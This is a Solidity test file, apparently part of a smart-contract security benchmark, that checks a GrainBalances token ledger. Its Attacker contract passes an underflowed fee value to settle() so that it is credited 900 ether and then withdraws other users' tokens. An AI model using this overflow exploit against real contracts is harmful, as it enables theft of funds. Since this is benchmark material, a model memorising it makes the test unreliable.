pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./GrainBalances.sol";

// assay-canary-4eae9c73-4778-448a-a1ba-3777da7e67bf

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Grain is ERC20 {
    constructor() public {
        _mint(msg.sender, 10000 ether);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Grain private grain;
    GrainBalances private balances;
    Attacker private mallory;

    function setUp() public {
        grain = new Grain();
        balances = new GrainBalances(grain);
        grain.transfer(ANA, 1000 ether);
        vm.startPrank(ANA);
        grain.approve(address(balances), 1000 ether);
        balances.deliver(900 ether);
        vm.stopPrank();
        mallory = new Attacker(balances);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        balances.deliver(100 ether);
        balances.settle(BEN, 300 ether, CAT, 20 ether);
        require(balances.balanceOf(ANA) == 680 ether && balances.balanceOf(BEN) == 300 ether, "settled");
        balances.settle(BEN, 80 ether, ANA, 5 ether);
        require(balances.balanceOf(ANA) == 600 ether, "its own haulier");
        balances.fetch(CAT, 600 ether);
        vm.stopPrank();
        vm.prank(CAT);
        balances.fetch(CAT, 15 ether);
        require(grain.balanceOf(CAT) == 615 ether && balances.balanceOf(CAT) == 5 ether, "fetched");
        vm.prank(BEN);
        balances.settle(CAT, 380 ether, CAT, 0);
        require(balances.balanceOf(CAT) == 385 ether && grain.balanceOf(address(balances)) == 385 ether, "all of it");
    }

    function test_RefusesTraders() public {
        vm.expectRevert("no grain");
        new GrainBalances(IERC20(0));
        vm.startPrank(ANA);
        vm.expectRevert("no account");
        balances.fetch(address(0), 1);
        vm.expectRevert("too little");
        balances.fetch(ANA, 900 ether + 1);
        vm.expectRevert("no account");
        balances.settle(address(0), 1, CAT, 1);
        vm.expectRevert("no account");
        balances.settle(BEN, 1, address(0), 1);
        vm.expectRevert("too little");
        balances.settle(BEN, 900 ether + 1, CAT, 0);
        vm.expectRevert("too little");
        balances.settle(BEN, 900 ether, CAT, 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(grain.balanceOf(address(mallory)) >= 900 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(balances);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(grain);
    }
}

contract Attacker {
    GrainBalances private balances;

    constructor(GrainBalances b) public {
        balances = b;
    }

    function run() external {
        balances.settle(address(this), 900 ether, address(0xF1E), uint256(-900 ether));
        balances.fetch(address(this), 900 ether);
    }
}
